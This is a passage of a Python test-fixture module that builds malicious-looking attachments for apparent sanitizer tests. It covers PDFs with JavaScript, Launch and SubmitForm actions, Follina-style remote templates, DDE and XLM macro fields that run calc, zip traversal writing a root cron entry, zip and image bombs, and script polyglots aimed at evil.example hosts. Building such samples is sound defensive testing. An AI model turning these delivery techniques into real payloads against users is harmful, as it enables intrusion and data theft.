"""Hostile (and matching benign) inputs, built in code, for the attachment tests.

Every builder returns bytes. Nothing here is real malware: the "payloads" are alerts, calc
command lines and URLs under ``example`` domains. The one binary we did not write, a benign
VBA project, is ``data/vbaProject.bin.b64`` (see ``data/README.md``).

PDFs: ``pdf_with_js_everywhere`` puts JavaScript in every action slot (pikepdf's
``pdf_with_js`` idea, extended); ``pdf_with_action(kind)`` builds one PDF per action type.
Office: ``docm``/``xlsm`` with a VBA project, ``docx_remote_template`` (Follina pattern:
external attachedTemplate and an external oleObject ``mhtml:`` link), ``docx_dde`` (DDEAUTO
field, fldSimple DDE and a QUOTE-spelled one). Archives: ``zip_bomb`` (small, generated:
deflated zeros), ``zip_overlap_bomb`` (entries sharing one body), ``zipcrypto_zip`` (a tiny
PKWARE encryptor below), ``aes_zip`` (pyzipper), ``zip_traversal``, ``zip_cp932_names``.
Images: ``polyglot_jpeg`` (JPEG + ZIP or script appended), ``jpeg_with_exif``. Executables:
``pe_bytes`` (a minimal PE header, never runnable), ``RTLO_NAMES``.
"""

from __future__ import annotations

import base64
import binascii
import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

DATA = Path(__file__).resolve().parent / "data"

PDF_ACTION_KINDS = (
    "javascript",
    "launch",
    "gotor",
    "gotoe",
    "submitform",
    "importdata",
    "uri",
    "embedded_file",
    "richmedia",
    "xfa",
    "3d",
    "sound",
)

RTLO_NAMES = (
    "invoice\u202efdp.exe",  # shows as invoiceexe.pdf
    "photo\u202egpj.js",
    "報告書\u202excod.scr",
    "resume\u2066.pdf\u2069.hta",
)


# --- PDF ---------------------------------------------------------------------------------


def _font(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )


def benign_pdf(pages: int = 3, text: str = "Mugaika test page", url: bool = False) -> bytes:
    """A plain PDF: ``pages`` pages, each with one line of text (and a URL if asked)."""
    pdf = pikepdf.new()
    font = _font(pdf)
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(612, 792))
        line = f"{text} {number}" + (" see https://evil.example/x" if url else "")
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 14 Tf 72 720 Td ({line}) Tj ET".encode())
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _js(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def pdf_with_js_everywhere() -> bytes:
    """JavaScript in every slot a viewer runs it from, direct and indirect, chained."""
    pdf = pikepdf.Pdf.open(io.BytesIO(benign_pdf(2)))
    root = pdf.Root
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
    goto.Next = pdf.make_indirect(_js("app.alert('next')"))  # hidden behind a harmless GoTo
    root.OpenAction = pdf.make_indirect(_js("app.alert('open')"))
    root.AA = Dictionary(
        WC=_js("app.alert('will close')"),
        WS=_js("app.alert('will save')"),
        DS=_js("app.alert('did save')"),
        WP=_js("app.alert('will print')"),
        DP=_js("app.alert('did print')"),
    )
    names_js = pdf.make_indirect(_js("app.alert('named')"))
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("doc"), names_js])))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=_js("app.alert('page open')"), C=_js("app.alert('page close')"))
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 600, 300, 620]),
        A=goto,
        AA=Dictionary(E=_js("app.alert('enter')")),
    )
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("field1"),
            Rect=Array([72, 500, 300, 520]),
            A=_js("app.alert('widget')"),
            AA=Dictionary(
                K=_js("app.alert('keystroke')"),
                F=_js("app.alert('format')"),
                V=_js("app.alert('validate')"),
                C=_js("app.alert('calculate')"),
            ),
            P=page,
        )
    )
    page.Annots = Array([link, widget])
    hidden_field = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("hidden"), AA=Dictionary(C=_js("app.alert('hidden')")))
    )
    root.AcroForm = Dictionary(Fields=Array([widget, hidden_field]))
    outline_item = pdf.make_indirect(
        Dictionary(Title=String("Bookmark"), A=_js("app.alert('bookmark')"))
    )
    outlines = pdf.make_indirect(
        Dictionary(Type=Name.Outlines, First=outline_item, Last=outline_item, Count=1)
    )
    outline_item.Parent = outlines
    root.Outlines = outlines
    # An orphan-looking action object reachable only from an unusual key.
    page.Custom = Dictionary(Trick=_js("app.alert('custom key')"))
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def pdf_with_action(kind: str) -> bytes:
    """A two-page PDF with one kind of active content (see PDF_ACTION_KINDS)."""
    pdf = pikepdf.Pdf.open(io.BytesIO(benign_pdf(2, url=kind == "uri")))
    root = pdf.Root
    page = pdf.pages[0].obj
    rect = Array([72, 600, 300, 620])

    def link(action: Dictionary) -> None:
        page.Annots = Array(
            [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=action))]
        )

    if kind == "javascript":
        root.OpenAction = _js("app.launchURL('https://evil.example/js')")
    elif kind == "launch":
        root.OpenAction = Dictionary(
            S=Name.Launch,
            Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")),
            NewWindow=True,
        )
    elif kind == "gotor":
        link(Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0])))
    elif kind == "gotoe":
        link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("inner.pdf")), D=Array([0])))
    elif kind == "submitform":
        link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")))
    elif kind == "importdata":
        link(Dictionary(S=Name.ImportData, F=String("https://evil.example/data.fdf")))
    elif kind == "uri":
        link(Dictionary(S=Name.URI, URI=String("https://evil.example/phish?id=1")))
    elif kind == "embedded_file":
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, pe_bytes(), mime_type="x")
        page.Annots = Array(
            [
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.FileAttachment,
                        Rect=rect,
                        FS=pikepdf.AttachedFileSpec(pdf, b"MZ hidden", filename="a.exe").obj,
                    )
                )
            ]
        )
    elif kind == "richmedia":
        asset = pdf.make_stream(b"FWS fake flash")
        page.Annots = Array(
            [
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.RichMedia,
                        Rect=rect,
                        RichMediaContent=Dictionary(
                            Assets=Dictionary(Names=Array([String("a.swf"), asset]))
                        ),
                        RichMediaSettings=Dictionary(),
                    )
                )
            ]
        )
    elif kind == "xfa":
        root.AcroForm = Dictionary(
            Fields=Array([]),
            XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
        )
        root.NeedsRendering = True
    elif kind == "3d":
        stream = pdf.make_stream(b"U3D fake", Type=Name("/3D"), Subtype=Name("/U3D"))
        page.Annots = Array(
            [
                pdf.make_indirect(
                    Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=rect, **{"/3DD": stream})
                )
            ]
        )
    elif kind == "sound":
        root.OpenAction = Dictionary(S=Name.Sound, Sound=pdf.make_stream(b"\x00" * 16))
    else:
        raise ValueError(kind)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def pdf_incremental_js() -> bytes:
    """A clean PDF with an incremental update appended that adds an OpenAction script."""
    base = benign_pdf(1)
    pdf = pikepdf.Pdf.open(io.BytesIO(base))
    root_ref = pdf.Root.objgen[0]
    size = len(pdf.objects) + 2
    body = base
    offset = len(body)
    addition = (
        f"{size} 0 obj\n<< /S /JavaScript /JS (app.alert\\('update'\\)) >>\nendobj\n"
        f"{root_ref} 0 obj\n<< /Type /Catalog /Pages {pdf.Root.Pages.objgen[0]} 0 R "
        f"/OpenAction {size} 0 R >>\nendobj\n"
    ).encode()
    xref_at = offset + len(addition)
    root_at = offset + addition.index(f"{root_ref} 0 obj".encode())
    prev = base.rindex(b"startxref")
    prev_xref = int(base[prev + 9 :].split()[0])
    xref = (
        f"xref\n{root_ref} 1\n{root_at:010d} 00000 n \n{size} 1\n{offset:010d} 00000 n \n"
        f"trailer\n<< /Size {size + 1} /Root {root_ref} 0 R /Prev {prev_xref} >>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    ).encode()
    return body + addition + xref


# --- Office ------------------------------------------------------------------------------


def vba_project() -> bytes:
    return base64.b64decode((DATA / "vbaProject.bin.b64").read_text())


def benign_docx(paragraphs: int = 3, text: str = "Mugaika paragraph", link: bool = False) -> bytes:
    import docx

    document = docx.Document()
    for number in range(1, paragraphs + 1):
        document.add_paragraph(f"{text} {number} 日本語テキスト")
    buffer = io.BytesIO()
    document.save(buffer)
    data = buffer.getvalue()
    if link:
        data = _add_hyperlink(data, "https://evil.example/link")
    return data


def benign_xlsx(rows: int = 5) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in range(1, rows + 1):
        sheet.cell(row=row, column=1, value=f"row {row} 行")
        sheet.cell(row=row, column=2, value=row * 10)
    sheet.cell(row=rows + 1, column=2, value=f"=SUM(B1:B{rows})")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rewrite_zip(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """A copy of a ZIP with parts replaced, added (bytes) or removed (None)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in changes:
                replacement = changes[info.filename]
                if replacement is not None:
                    target.writestr(info.filename, replacement)
            else:
                target.writestr(info, source.read(info))
        for name, content in changes.items():
            if name not in source.namelist() and content is not None:
                target.writestr(name, content)
    return out.getvalue()


def _add_hyperlink(data: bytes, url: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    rels = source.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdLink1" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/hyperlink" Target="{url}" TargetMode="External"/></Relationships>',
    )
    document = source.read("word/document.xml").decode()
    document = document.replace(
        "</w:body>",
        '<w:p><w:hyperlink r:id="rIdLink1"><w:r><w:t>click here</w:t></w:r></w:hyperlink></w:p>'
        "</w:body>",
        1,
    )
    return _rewrite_zip(
        data,
        {"word/_rels/document.xml.rels": rels.encode(), "word/document.xml": document.encode()},
    )


def docm() -> bytes:
    """A macro-enabled Word document with a VBA project (and its relationship)."""
    data = benign_docx()
    source = zipfile.ZipFile(io.BytesIO(data))
    types = source.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = source.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    return _rewrite_zip(
        data,
        {
            "[Content_Types].xml": types.encode(),
            "word/_rels/document.xml.rels": rels.encode(),
            "word/vbaProject.bin": vba_project(),
        },
    )


def xlsm() -> bytes:
    """A macro-enabled workbook with a VBA project and an Excel 4.0 macro sheet."""
    data = benign_xlsx()
    source = zipfile.ZipFile(io.BytesIO(data))
    types = source.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/xl/macrosheets/sheet1.xml" '
        'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    )
    rels = source.read("xl/_rels/workbook.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>'
        '<Relationship Id="rIdXlm" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>',
    )
    workbook = source.read("xl/workbook.xml").decode()
    workbook = workbook.replace(
        "</sheets>",
        '<sheet name="Macro1" sheetId="99" r:id="rIdXlm"/></sheets>'
        '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
        "</definedNames>",
    )
    if 'xmlns:r="' not in workbook.split(">", 1)[0]:
        workbook = workbook.replace(
            "<workbook ",
            '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships" ',
            1,
        )
    macrosheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
        '<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'
    )
    return _rewrite_zip(
        data,
        {
            "[Content_Types].xml": types.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "xl/workbook.xml": workbook.encode(),
            "xl/vbaProject.bin": vba_project(),
            "xl/macrosheets/sheet1.xml": macrosheet.encode(),
        },
    )


def docx_remote_template() -> bytes:
    """Follina pattern: external attachedTemplate + external oleObject with an mhtml: target."""
    data = benign_docx()
    source = zipfile.ZipFile(io.BytesIO(data))
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="https://evil.example/template.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    settings = source.read("word/settings.xml").decode()
    settings = settings.replace("<w:zoom ", '<w:attachedTemplate r:id="rIdTpl"/><w:zoom ', 1)
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace(
            "<w:settings ",
            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships" ',
            1,
        )
    rels = source.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://'
        'evil.example/x.html" TargetMode="External"/></Relationships>',
    )
    document = source.read("word/document.xml").decode()
    document = document.replace(
        "</w:body>",
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" '
        'r:id="rIdOle" UpdateMode="OnCall"/></w:object></w:r></w:p></w:body>',
        1,
    )
    return _rewrite_zip(
        data,
        {
            "word/_rels/settings.xml.rels": settings_rels.encode(),
            "word/settings.xml": settings.encode(),
            "word/_rels/document.xml.rels": rels.encode(),
            "word/document.xml": document.encode(),
        },
    )


def docx_dde() -> bytes:
    """DDEAUTO as a complex field, DDE as fldSimple, and DDE spelled by a nested QUOTE."""
    data = benign_docx(paragraphs=1)
    source = zipfile.ZipFile(io.BytesIO(data))
    document = source.read("word/document.xml").decode()

    def run(inner: str) -> str:
        return f"<w:r>{inner}</w:r>"

    complex_field = (
        "<w:p>"
        + run('<w:fldChar w:fldCharType="begin"/>')
        + run(
            '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            '"/k calc.exe" </w:instrText>'
        )
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run("<w:t>visible result</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
        + "</w:p>"
    )
    simple = (
        '<w:p><w:fldSimple w:instr=" DDE excel.exe &quot;x&quot;"><w:r><w:t>simple result</w:t>'
        "</w:r></w:fldSimple></w:p>"
    )
    quoted = (
        "<w:p>"
        + run('<w:fldChar w:fldCharType="begin"/>')
        + run('<w:fldChar w:fldCharType="begin"/>')
        + run('<w:instrText xml:space="preserve"> QUOTE 68 68 69 65 85 84 79 </w:instrText>')
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run("<w:t>DDEAUTO</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
        + run('<w:instrText xml:space="preserve"> cmd.exe "/c calc" </w:instrText>')
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run("<w:t>quoted result</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
        + "</w:p>"
    )
    page = (
        "<w:p>"
        + run('<w:fldChar w:fldCharType="begin"/>')
        + run('<w:instrText xml:space="preserve"> PAGE </w:instrText>')
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run("<w:t>1</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
        + "</w:p>"
    )
    document = document.replace(
        "<w:sectPr", complex_field + simple + quoted + page + "<w:sectPr", 1
    )
    return _rewrite_zip(data, {"word/document.xml": document.encode()})


# --- archives ----------------------------------------------------------------------------


def simple_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(expanded_mb: int = 64, nested: bool = True) -> bytes:
    """A small ZIP whose member inflates to ``expanded_mb`` MiB of zeros (ratio ~1000:1),
    optionally wrapped in a second ZIP (stored, so the outer ratio looks innocent)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        chunk = b"\x00" * (1024 * 1024)
        for _ in range(expanded_mb):
            member.write(chunk)
    inner = out.getvalue()
    if not nested:
        return inner
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("inner.zip", inner)
    return outer.getvalue()


def zip_overlap_bomb(entries: int = 50, body_mb: int = 2) -> bytes:
    """Many central-directory entries all pointing at one deflated body (Fifield's
    non-recursive bomb in its simplest form)."""
    raw = b"\x00" * (body_mb * 1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = compressor.compress(raw) + compressor.flush()
    crc = binascii.crc32(raw)
    name = b"a.txt"
    local = (
        struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), len(raw), len(name), 0
        )
        + name
        + body
    )
    central = b""
    for index in range(entries):
        member = f"f{index}.txt".encode()
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(body),
                len(raw),
                len(member),
                0,
                0,
                0,
                0,
                0,
                0,  # every entry points at offset 0
            )
            + member
        )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), len(local), 0)
    return local + central + end


def _zipcrypto_keys() -> list[int]:
    return [0x12345678, 0x23456789, 0x34567890]


def _crc_update(crc: int, byte: int) -> int:
    return (binascii.crc32(bytes([byte]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF) & 0xFFFFFFFF


def _zipcrypto_encrypt(password: bytes, plain: bytes, check_byte: int) -> bytes:
    """Traditional PKWARE encryption (APPNOTE 6.1), enough to make a test archive."""
    keys = _zipcrypto_keys()

    def update(byte: int) -> None:
        keys[0] = _crc_update(keys[0], byte)
        keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
        keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = _crc_update(keys[2], (keys[1] >> 24) & 0xFF)

    for byte in password:
        update(byte)
    header = bytes(range(11)) + bytes([check_byte])
    out = bytearray()
    for byte in header + plain:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def zipcrypto_zip(password: bytes = b"infected", content: bytes = b"secret invoice\n") -> bytes:
    """A one-member ZIP encrypted with ZipCrypto (the classic PPAP archive)."""
    crc = binascii.crc32(content)
    encrypted = _zipcrypto_encrypt(password, content, (crc >> 24) & 0xFF)
    name = "請求書.txt".encode()
    flags = 0x1 | 0x800
    local = (
        struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            flags,
            0,
            0,
            0,
            crc,
            len(encrypted),
            len(content),
            len(name),
            0,
        )
        + name
        + encrypted
    )
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            flags,
            0,
            0,
            0,
            crc,
            len(encrypted),
            len(content),
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def aes_zip(password: bytes = b"infected", content: bytes = b"secret invoice\n") -> bytes:
    """A WinZip AES-256 ZIP, written with pyzipper."""
    import pyzipper

    out = io.BytesIO()
    with pyzipper.AESZipFile(
        out, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
    ) as archive:
        archive.setpassword(password)
        archive.writestr("invoice.txt", content)
    return out.getvalue()


def zip_traversal() -> bytes:
    return simple_zip({"ok.txt": b"fine\n", "../../etc/cron.d/evil": b"* * * * * root id\n"})


def zip_cp932_names() -> bytes:
    """Members named in CP932 without the UTF-8 flag, as Japanese Windows Explorer writes."""

    class Cp932Info(zipfile.ZipInfo):
        __slots__ = ()

        def _encodeFilenameFlags(self) -> tuple[bytes, int]:  # noqa: N802 (zipfile's name)
            return self.filename.encode("cp932"), self.flag_bits

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (("資料/見積書.txt", b"quote\n"), ("報告書.txt", b"report\n")):
            info = Cp932Info(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


# --- images and executables --------------------------------------------------------------


def jpeg(width: int = 64, height: int = 48, exif: bool = False, quality: int = 90) -> bytes:
    from PIL import Image

    image = Image.new("RGB", (width, height))
    for x in range(width):
        for y in range(height):
            image.putpixel((x, y), ((x * 4) % 256, (y * 5) % 256, ((x + y) * 3) % 256))
    buffer = io.BytesIO()
    params: dict[str, object] = {"quality": quality}
    if exif:
        data = Image.Exif()
        data[0x010F] = "EvilCam"  # Make
        data[0x9286] = "secret comment"  # UserComment (raw)
        data[0x0112] = 6  # orientation: rotate 90
        params["exif"] = data.tobytes()
        params["comment"] = b"JPEG comment payload"
    image.save(buffer, format="JPEG", **params)
    return buffer.getvalue()


def png(width: int = 32, height: int = 32, text: bool = False) -> bytes:
    from PIL import Image, PngImagePlugin

    image = Image.new("RGBA", (width, height), (10, 200, 30, 128))
    buffer = io.BytesIO()
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Comment", "<script>alert(1)</script>")
    image.save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def polyglot_jpeg(payload: str = "zip") -> bytes:
    """A valid JPEG with a ZIP (holding a .js) or an HTML script appended after EOI."""
    if payload == "zip":
        return jpeg() + simple_zip({"run.js": b"WScript.Shell.Run('calc')"})
    return jpeg() + b"<script>alert(document.cookie)</script>"


def image_bomb_png(side: int = 30000) -> bytes:
    """A tiny PNG whose header claims side x side pixels (the body is one zlib stream of
    zeros, generated on the fly, never decoded by the sanitizer)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", binascii.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    row = b"\x00" * (1 + side // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(64)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def pe_bytes() -> bytes:
    """A minimal PE header (DOS stub + 'PE\\0\\0' + COFF header); not a runnable program."""
    dos = bytearray(b"MZ" + b"\x90" * 0x3A + struct.pack("<I", 0x80))
    dos += b"\x00" * (0x80 - len(dos))
    coff = struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0xE0, 0x102)
    return bytes(dos) + b"PE\x00\x00" + coff + b"\x00" * 256


# --- files encoded in text (RT-07): what mail clients decode out of plain text ---------------

_BINHEX_ALPHABET = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"


def _crc_ccitt(data: bytes) -> int:
    crc = 0
    for byte in data + b"\0\0":
        for bit in range(8):
            carry = crc & 0x8000
            crc = ((crc << 1) | ((byte >> (7 - bit)) & 1)) & 0xFFFF
            if carry:
                crc ^= 0x1021
    return crc


def _binhex_runs(raw: bytes) -> bytes:
    """RFC 1741 run-length encoding: a run of 3 or more bytes as byte, 0x90, count."""
    out = bytearray()
    index = 0
    while index < len(raw):
        byte = raw[index]
        run = 1
        while index + run < len(raw) and raw[index + run] == byte and run < 255:
            run += 1
        literal = b"\x90\x00" if byte == 0x90 else bytes([byte])
        if run >= 3:
            out += literal + bytes([0x90, run])
        else:
            out += literal * run
        index += run
    return bytes(out)


def binhex(name: bytes, data: bytes, runs: bool = False) -> bytes:
    """BinHex 4.0 (RFC 1741) of one data fork, checked against Perl's Convert::BinHex
    (tests/integration/test_redteam_attachments.py); ``runs``: run-length encoded too."""

    def with_crc(block: bytes) -> bytes:
        return block + struct.pack(">H", _crc_ccitt(block))

    header = bytes([len(name)]) + name + b"\0APPL????\0\0" + struct.pack(">II", len(data), 0)
    raw = with_crc(header) + with_crc(data) + with_crc(b"")
    raw = _binhex_runs(raw) if runs else raw.replace(b"\x90", b"\x90\x00")
    raw += b"\0" * (-len(raw) % 3)
    encoded = bytearray()
    for i in range(0, len(raw), 3):
        value = int.from_bytes(raw[i : i + 3], "big")
        encoded += bytes(_BINHEX_ALPHABET[(value >> shift) & 63] for shift in (18, 12, 6, 0))
    text = b":" + bytes(encoded) + b":"
    lines = [text[i : i + 64] for i in range(0, len(text), 64)]
    return b"(This file must be converted with BinHex 4.0)\r\n" + b"\r\n".join(lines) + b"\r\n"


def yenc(name: bytes, data: bytes, end: bool = True) -> bytes:
    """yEnc 1.3 of ``data`` in 128-byte lines; ``end``: with its ``=yend`` line."""
    out = bytearray()
    for byte in data:
        shifted = (byte + 42) % 256
        if shifted in (0x00, 0x0A, 0x0D, 0x3D):
            out += bytes([0x3D, (shifted + 64) % 256])
        else:
            out.append(shifted)
    lines = [bytes(out[i : i + 128]) for i in range(0, len(out), 128)]
    head = b"=ybegin line=128 size=%d name=%s\r\n" % (len(data), name)
    tail = b"=yend size=%d\r\n" % len(data) if end else b""
    return head + b"\r\n".join(lines) + b"\r\n" + tail


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def lnk_bytes() -> bytes:
    return (
        b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
        + b"\x00" * 56
    )


def html_with_script() -> bytes:
    return b"<!DOCTYPE html><html><body><p>Invoice</p><script>location='https://evil.example'</script></body></html>"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" '
        b'onload="alert(1)"><script>alert(2)</script><rect width="120" height="60" fill="navy"/>'
        b'<image xlink:href="file:///etc/passwd" width="10" height="10"/>'
        b'<a xlink:href="javascript:alert(3)"><text x="5" y="30" fill="white">hi</text></a></svg>'
    )


# --- issue 11: content the checks used to let through -------------------------------------


def ppt_object_oletools_cannot_parse() -> bytes:
    """A PowerPoint 97 file carrying an embedded OLE object (an LNK package, from the corpus's
    ``oletools/oleobj/sample_with_lnk_file.ppt``) whose ``Current User`` stream claims release
    version 7 instead of 8. PowerPoint locates its records through that stream's offsets and
    does not care; oletools' PPT parser raises ``ValueError`` on it, so a check that swallows
    that error sees no embedded object at all."""
    from tests.helpers.corpus import corpus_file

    data = corpus_file("oletools/oleobj/sample_with_lnk_file.ppt")
    # Current User record body: ... lenUserName=4, "user", relVersion=8, unicode "user".
    release_8 = bytes.fromhex("75736572080000007500730065007200")
    assert data.count(release_8) == 1, "corpus sample changed"
    return data.replace(release_8, bytes.fromhex("75736572070000007500730065007200"))


_XHTML_SCRIPT = (
    b'<?xml version="1.0" encoding="utf-8"?>\n'
    b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Invoice</title></head>'
    b"<body><p>Invoice</p><script>alert(document.domain)</script></body></html>"
)

# Markup a browser (or a mail client's viewer) runs, under names and declared types other than
# .html/text/html: (file name, declared type, bytes). Each must be held, or arrive with no
# script, event handler or other active markup left. See MARKUP_BENIGN for the controls.
ACTIVE_MARKUP: tuple[tuple[str, str, bytes], ...] = (
    ("invoice.shtml", "text/html", b"<img src=x onerror=alert(1)><p>Invoice</p>"),
